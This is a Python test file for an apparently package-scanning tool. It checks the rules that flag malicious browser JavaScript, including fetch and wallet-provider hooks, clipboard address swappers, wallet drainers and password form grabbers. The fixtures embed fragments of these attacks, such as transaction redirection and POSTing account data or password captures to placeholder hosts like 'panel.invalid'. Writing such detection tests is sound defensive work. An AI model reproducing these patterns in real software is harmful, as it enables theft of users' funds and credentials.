"""The browser family: what makes a hook an attack, and the shapes that stay context."""

from __future__ import annotations

from airlock.analysis import analyze
from airlock.contents import read_tarball
from airlock.model import Finding
from tests.fakes.tarballs import build_package
from tests.incidents.replicas.browser import BTC, ETH, SOL, TRX

HOOK = (
    "const originalFetch = window.fetch;\n"
    "window.fetch = async (...a) => { const r = await originalFetch(...a); return r; };\n"
)


def findings(files: dict[str, str], **manifest: object) -> dict[str, Finding]:
    data = build_package("probe", "1.0.0", files, **manifest)
    analysis = analyze(read_tarball(data, subject="probe"))
    return {f.rule: f for f in analysis.findings if f.rule.startswith("browser-")}


def addresses(values: list[str]) -> str:
    return "const list = [" + ", ".join(f"'{v}'" for v in values) + "];\n"


def test_a_fetch_wrapper_alone_is_context() -> None:
    found = findings({"index.js": HOOK})
    assert set(found) == {"browser-api-hook"}
    assert found["browser-api-hook"].severity.value == "info"


def test_a_declared_or_member_fetch_is_not_a_hook() -> None:
    code = "const fetch = require('node-fetch');\noptions.fetch = fetch;\nlet prefetch = 1; prefetch = 2;\n"
    assert findings({"index.js": code}) == {}


def test_a_single_chain_list_next_to_a_wrap_is_high_a_multi_chain_one_on_load_critical() -> None:
    single = findings({"index.js": HOOK + addresses(ETH[:3])})
    assert single["browser-wallet-hijack"].severity.value == "high"
    multi = HOOK + addresses([ETH[0], BTC[0], SOL[0], TRX[0]])
    assert findings({"index.js": multi})["browser-wallet-hijack"].severity.value == "critical"
    library = findings({"index.js": "module.exports = 1;\n", "lib/unused.js": multi})
    assert library["browser-wallet-hijack"].severity.value == "high"


def test_an_address_scanning_regex_with_a_hook_is_critical_even_in_library_code() -> None:
    code = HOOK + "const swap = (t) => t.replace(/0x[a-fA-F0-9]{40}/g, pick);\n"
    found = findings({"index.js": "module.exports = 1;\n", "lib/unused.js": code})
    assert found["browser-wallet-hijack"].severity.value == "critical"


def test_an_anchored_address_validator_is_not_a_rewrite() -> None:
    code = HOOK + "const ok = (a) => /^0x[a-fA-F0-9]{40}$/.test(a);\n"
    assert "browser-wallet-hijack" not in findings({"index.js": code})


def test_one_donation_address_is_not_a_list() -> None:
    code = HOOK + f"export const DONATE = '{ETH[0]}';\nexport const PAYEES = ['{ETH[1]}'];\n"
    assert "browser-wallet-hijack" not in findings({"index.js": code})


def test_a_polyfill_definition_is_not_a_wrap() -> None:
    # whatwg-fetch shape: fetch defined where missing; no original to call, nothing to rewrite through.
    code = "if (!self.fetch) { self.fetch = fetch; }\n" + addresses(ETH[:3])
    assert "browser-wallet-hijack" not in findings({"index.js": code})


def test_addresses_of_several_chains_make_a_list() -> None:
    code = HOOK + addresses([BTC[0], SOL[0], TRX[0]])
    assert "browser-wallet-hijack" in findings({"index.js": code})


def test_solana_provider_hook() -> None:
    code = (
        "const sign = window.solana.signTransaction;\n"
        "window.solana.signTransaction = async (tx) => sign(redirect(tx));\n"
        "const pick = (t) => t.replace(/[1-9A-HJ-NP-Za-km-z]{32,44}/g, swap);\n"
    )
    assert findings({"index.js": code})["browser-wallet-hijack"].severity.value == "critical"


def test_wallet_provider_hook_that_redirects_a_transaction() -> None:
    code = (
        "const orig = window.ethereum.request;\n"
        "window.ethereum.request = async function (p) {\n"
        "  if (p.method === 'eth_sendTransaction') p.params[0].to = attacker();\n"
        "  return orig.call(this, p);\n"
        "};\n"
    )
    assert findings({"index.js": code})["browser-wallet-hijack"].severity.value == "critical"


def test_provider_named_variables_count_only_in_wallet_code() -> None:
    assert findings({"index.js": "dataProvider.request = wrap(dataProvider.request);\n"}) == {}


def test_obfuscated_loaded_hook_is_critical_but_not_in_library_code() -> None:
    names = " ".join(f"var _0x{0x1000 + i:04x} = {i};" for i in range(25))
    code = (
        names + "\nconst _0xf00d = fetch; fetch = function () { return _0xf00d.apply(this, arguments); };\n"
    )
    assert findings({"index.js": code})["browser-hook-obfuscated"].severity.value == "critical"
    library = findings({"index.js": "module.exports = 1;\n", "lib/x.js": code})
    assert "browser-hook-obfuscated" not in library
    polyfill = names + "\nif (!self.fetch) { self.fetch = _0x1001; }\n"
    assert "browser-hook-obfuscated" not in findings({"index.js": polyfill})


def test_clipboard_write_of_own_address_needs_a_clipboard_read() -> None:
    write_only = f"button.onclick = () => navigator.clipboard.writeText('{ETH[0]}');\n"
    assert findings({"index.js": write_only}) == {}
    clipper = (
        "setInterval(async () => {\n"
        "  const t = await navigator.clipboard.readText();\n"
        f"  if (/^0x[a-fA-F0-9]{{40}}$/.test(t)) navigator.clipboard.writeText('{ETH[0]}');\n"
        "}, 300);\n"
    )
    assert "browser-clipboard-hijack" in findings({"index.js": clipper})


def test_clipboard_address_from_a_list_by_name() -> None:
    code = (
        addresses(ETH[:2])
        + "document.addEventListener('paste', () => navigator.clipboard.writeText(list[0]));\n"
    )
    assert "browser-clipboard-hijack" in findings({"index.js": code})


def test_drainer_needs_a_hard_coded_recipient_and_a_remote_post() -> None:
    base = (
        "const [a] = await window.ethereum.request({ method: 'eth_requestAccounts' });\n"
        "await window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from: a, to: TO }] });\n"
    )
    post = "await fetch('https://panel.invalid/x', { method: 'POST', body: a });\n"
    assert "browser-wallet-drainer" not in findings({"index.mjs": base.replace("TO", "payee") + post})
    assert "browser-wallet-drainer" not in findings({"index.mjs": base.replace("TO", f"'{ETH[0]}'")})
    hit = findings({"index.mjs": base.replace("TO", f"'{ETH[0]}'") + post}, main="index.mjs")
    assert hit["browser-wallet-drainer"].severity.value == "critical"


def test_form_grabber_needs_password_fields_page_wide_capture_and_network() -> None:
    capture = "document.addEventListener('submit', () => grab(document.querySelector('[type=password]')));\n"
    assert findings({"index.js": capture}) == {}
    hit = findings({"index.js": capture + "fetch('https://x.invalid', { method: 'POST' });\n"})
    assert hit["browser-form-grabber"].severity.value == "high"


def test_exec_command_clipper_writes_its_address_into_the_copied_field() -> None:
    code = (
        f"const wallets = {{ eth: '{ETH[0]}' }};\n"
        "document.addEventListener('copy', () => {\n"
        "  const area = document.createElement('textarea');\n"
        "  area.value = wallets.eth;\n"
        "  document.body.appendChild(area); area.select(); document.execCommand('copy');\n"
        "});\n"
    )
    assert "browser-clipboard-hijack" in findings({"index.js": code})


def test_hooks_installed_through_define_property_or_reflect() -> None:
    code = (
        "const open = XMLHttpRequest.prototype.open;\n"
        "Object.defineProperty(XMLHttpRequest.prototype, 'open', { value: function () {} });\n"
        "Reflect.set(window.ethereum, 'request', wrap);\n"
    )
    hook = findings({"index.js": code})["browser-api-hook"]
    assert "XMLHttpRequest" in hook.message
    assert "wallet provider" in hook.message
